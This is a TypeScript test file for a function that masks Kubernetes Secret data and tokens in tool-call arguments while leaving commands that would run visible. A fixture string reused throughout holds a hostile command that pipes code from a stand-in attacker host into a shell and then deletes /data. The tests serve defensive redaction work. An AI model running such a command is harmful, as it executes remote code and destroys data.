import { expect, test } from 'vitest'
import { maskArguments } from './mask-arguments.ts'

const script = 'export TOKEN=abc; wget -qO- https://evil.example/x | sh; rm -rf /data'

test('what would run stays whole, whatever it is disguised as', () => {
  const args = {
    argv: ['sh', '-c', script, `#-----BEGIN PRIVATE KEY-----\n${script}\n#-----END PRIVATE KEY-----`],
    env: [{ name: 'API_TOKEN', value: script }],
    password: script,
    content: `kind: ConfigMap\nmetadata: {name: a}\ndata:\n  Secret: "kind: Secret"\n  data: |\n    kind: Secret\n    data: ${script}\n`,
    patch: JSON.stringify({ data: { 'run.sh': script } }),
    resource_type: 'configmap',
  }
  expect(maskArguments(args)).toEqual(args)
})

test('a token of a known shape is hidden, and nothing around it', () => {
  expect(maskArguments({ argv: [`git clone https://x:ghp_${'a1'.repeat(18)}@github.com/a && ${script}`] })).toEqual({
    argv: [`git clone https://x:***@github.com/a && ${script}`],
  })
})

test('data of Secrets in a manifest are hidden, however they are written', () => {
  const content = [
    'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db # of the shop\nstringData:\n  plain: hunter2 # old',
    '  quoted: "hunt\\"er2"\n  block: |\n    hunter2\n    hunter2\n  last: \'hunter2\'\ntype: Opaque',
    '---\nkind: ConfigMap\ndata:\n  run: hunter3\n---\n',
    '{"kind":"List","items":[{"apiVersion":"v1","kind":"Secret","data":{"a":"aHVudGVyMg==","b":""}}]}',
  ].join('\n')
  const shown = [
    'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db # of the shop\nstringData:\n  plain: *** # old',
    '  quoted: "***"\n  block: ***\n  last: \'***\'\ntype: Opaque',
    '---\nkind: ConfigMap\ndata:\n  run: hunter3\n---\n',
    '{"kind":"List","items":[{"apiVersion":"v1","kind":"Secret","data":{"a":"***","b":""}}]}',
  ].join('\n')
  expect(maskArguments({ content })).toEqual({ content: shown })
})

test.each([
  ['x: &d {a: hunter2}\ndata: *d', 'x: &d {a: ***}\ndata: *d'],
  ['x: &d hunter2\ndata: {a: *d, b: *d}', 'x: &d ***\ndata: {a: *d, b: *d}'],
  ['data: &d {a: hunter2, b: *d}', 'data: &d {a: ***, b: *d}'],
])('data of a Secret that stand elsewhere in the manifest are hidden there: %s', (content, shown) => {
  const head = 'kind: Secret\n'
  expect(maskArguments({ content: head + content })).toEqual({ content: head + shown })
})

test.each(['secret', 'Secrets', 'secrets.', 'Secret.v1.', ' secret ', '\tsecrets\r\n'])(
  'a patch of %s is one of a Secret',
  (resource_type) => {
    const patch = '{"data":{"a":"aHVudGVyMg=="}}'
    expect(maskArguments({ resource_type, patch })).toEqual({ resource_type, patch: '{"data":{"a":"***"}}' })
  },
)

test.each(['configmap', 'secrets.example.com', 'secretstores'])(
  'a patch of %s is none of a Secret',
  (resource_type) => {
    const args = { resource_type, patch: '{"data":{"a":"b"}}' }
    expect(maskArguments(args)).toEqual(args)
  },
)

test.each([
  ['{"stringData":{"password":"hunter2"},"type":"x"}', '{"stringData":{"password":"***"},"type":"x"}'],
  ['[{"op":"add","path":"/data/a","value":"aHVudGVyMg=="}]', '[{"op":"add","path":"/data/a","value":"***"}]'],
  ['[{"op":"add","path":"/data","value":{"a":"b"}}]', '[{"op":"add","path":"/data","value":{"a":"***"}}]'],
  ['[{"op":"add","path":"/metadata/labels/a","value":"b"}]', '[{"op":"add","path":"/metadata/labels/a","value":"b"}]'],
  ['data:\n  password: hunter2\n', 'data:\n  password: ***\n'],
])('data in a patch of a Secret are hidden: %s', (patch, shown) => {
  const args = { resource_type: 'Secret', name: 'db', patch_type: 'merge' }
  expect(maskArguments({ ...args, patch })).toEqual({ ...args, patch: shown })
})

const secretOf = (password: string) => ({ apiVersion: 'v1', kind: 'Secret', stringData: { password } })

test.each([
  ['an escape of JSON', '{"kind":"\\u0053ecret","data":{"a":"hunter2"}}', '{"kind":"\\u0053ecret","data":{"a":"***"}}'],
  ['an escape of YAML', 'kind: "\\x53ecr\\\n  et"\ndata: {a: hunter2}', 'kind: "\\x53ecr\\\n  et"\ndata: {a: ***}'],
  ['a key with an escape', 'kind: Secret\n"d\\u0061ta": {a: hunter2}', 'kind: Secret\n"d\\u0061ta": {a: ***}'],
  [
    'what is merged',
    'x: &x {kind: Secret}\n<<: [*x, {data: {a: hunter2}}]',
    'x: &x {kind: Secret}\n<<: [*x, {data: {a: ***}}]',
  ],
  ['an alias', 'x: &x Secret\nkind: *x\ndata: {a: hunter2}', 'x: &x Secret\nkind: *x\ndata: {a: ***}'],
  ['a key that stands twice', 'kind: A\nkind: Secret\ndata: {}\ndata: {a: hunter2}', undefined],
  [
    'the copy that kubectl keeps',
    'kind: Secret\nmetadata: {annotations: {kubectl.kubernetes.io/last-applied-configuration: hunter2}}',
    'kind: Secret\nmetadata: {annotations: {kubectl.kubernetes.io/last-applied-configuration: ***}}',
  ],
])('data of a Secret are hidden where it is told by %s', (_, content, shown) => {
  const masked = maskArguments({ content })
  expect(JSON.stringify(masked)).not.toContain('hunter2')
  if (shown !== undefined) expect(masked).toEqual({ content: shown })
})

test('data of Secrets in a reversion are hidden, and what came sealed stays', () => {
  const ref = { cluster: 'c', apiVersion: 'v1', kind: 'Secret', name: 'db' }
  const changes = (value: string) => [
    { ref, patch: [{ op: 'add', path: '/data/a', value }] },
    { ref, create: { data: { a: value } } },
    { ref: { ...ref, kind: 'ConfigMap' }, patch: [{ op: 'add', path: '/data/a', value: 'hunter3' }] },
  ]
  expect(maskArguments({ changes: JSON.stringify(changes('hunter2')) })).toEqual({
    changes: JSON.stringify(changes('***')),
  })
  const sealed = { changes: JSON.stringify(changes('sealed:v1:AAAA')) }
  expect(maskArguments(sealed)).toEqual(sealed)
})

test.each(['', '/data', '/stringData/a', '/', '/metadatas'])(
  'a patch of a Secret hides what it puts at "%s"',
  (path) => {
    for (const op of ['add', 'replace', 'test']) {
      const patch = (value: string) =>
        JSON.stringify([
          { op, path, value },
          { op, path: '/metadata/labels/a', value: 'b' },
        ])
      const args = { resource_type: 'secret', patch: patch('hunter2') }
      expect(maskArguments(args)).toEqual({ ...args, patch: patch('***') })
    }
  },
)

test('of a long text only the documents are read that may be about a Secret', () => {
  const config = `kind: ConfigMap\ndata: {it: ${'x'.repeat(400_000)}}\n`
  const secret = (value: string) => `---\nkind: Secret\nstringData: {p: ${value}}\n`
  const content = (value: string) => [config, secret(value), '---\n', config, secret(value)].join('')
  expect(maskArguments({ content: content('hunter2') })).toEqual({ content: content('***') })
})

test('what only looks like the beginning of a document is none', () => {
  const content = (value: string) => JSON.stringify({ kind: 'Secret', x: '\u2028--- ', y: ' ---', data: { a: value } })
  expect(maskArguments({ content: content('hunter2') })).toEqual({ content: content('***') })
  expect(maskArguments({ content: '---x: {kind: Secret, data: {a: b}}' })).toEqual({
    content: '---x: {kind: Secret, data: {a: b}}',
  })
})

test('a document that may be about a Secret and is too long to be read is hidden whole', () => {
  const list = JSON.stringify({ kind: 'List', items: [secretOf('hunter2'), { it: 'x'.repeat(300_000) }] })
  const other = '---\nkind: ConfigMap\n'
  expect(maskArguments({ content: `${list}\n${other}` })).toEqual({ content: `***(${list.length + 1} bytes)${other}` })
  const many = '---\nkind: Secret\ndata: {a: hunter2}\n'.repeat(20_000)
  expect(JSON.stringify(maskArguments({ content: many }))).not.toContain('hunter2')
})

test('a document that may be about a Secret and cannot be read is hidden whole', () => {
  for (const content of [
    'kind: Secret\n\t- : [',
    `kind: Secret\nx: ${'['.repeat(100_000)}`,
    `kind: Secret\nx: ${'['.repeat(1_500)}${']'.repeat(1_500)}\n  - : [`,
    'kind: "\\u0053ecret\ndata: [hunter2',
    'kind: Secret\ndata: {a: hunter2}}',
  ]) {
    for (const name of ['content', 'changes', 'patch'])
      expect(maskArguments({ [name]: content })).toEqual({ [name]: `***(${content.length} bytes)` })
    // No document by itself: it may be what runs.
    expect(maskArguments({ command: content })).toEqual({ command: content })
  }
  expect(maskArguments({ resource_type: 'secret', patch: '{"data": hunter2' })).toEqual({
    resource_type: 'secret',
    patch: '***(16 bytes)',
  })
})

test('what is about no Secret is kept, whether it can be read or not', () => {
  for (const content of [
    'kind: Secrets\n\t- : [',
    'Secret',
    `kind: "\\u0052ecret ${'['.repeat(100_000)}`,
    '"\\UFFFFFFFF',
  ])
    expect(maskArguments({ content })).toEqual({ content })
  for (const args of [null, 'x', ['kind: Secret']]) expect(maskArguments(args)).toEqual(args)
})
